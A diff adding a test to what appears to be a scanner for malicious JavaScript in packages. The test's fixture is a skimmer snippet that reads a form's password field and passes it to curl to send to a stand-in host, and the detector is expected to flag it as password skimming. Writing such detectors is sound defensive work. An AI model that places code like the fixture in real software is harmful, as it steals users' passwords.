@@ -103,6 +103,16 @@ def test_an_address_regex_of_tron_alone_reaches_the_wallet_hook() -> None:
     assert details(source, Capability.WALLET_HOOK) == {"address-swap"}
 
 
+def test_a_spawned_downloader_is_the_network_a_skimmer_needs() -> None:
+    source = (
+        "const cp = require('child_process');\n"
+        "form.addEventListener('submit', () => {\n"
+        "  const v = document.querySelector('input[type=password]').value;\n"
+        "  cp.exec('curl -d ' + v + ' https://collect.example.test');\n});\n"
+    )
+    assert details(source, Capability.SKIMMER) == {"password"}
+
+
 def test_long_literals() -> None:
     blob = "QUJD" * 80
     assert long_literal(f"const a = '{blob}';".encode())
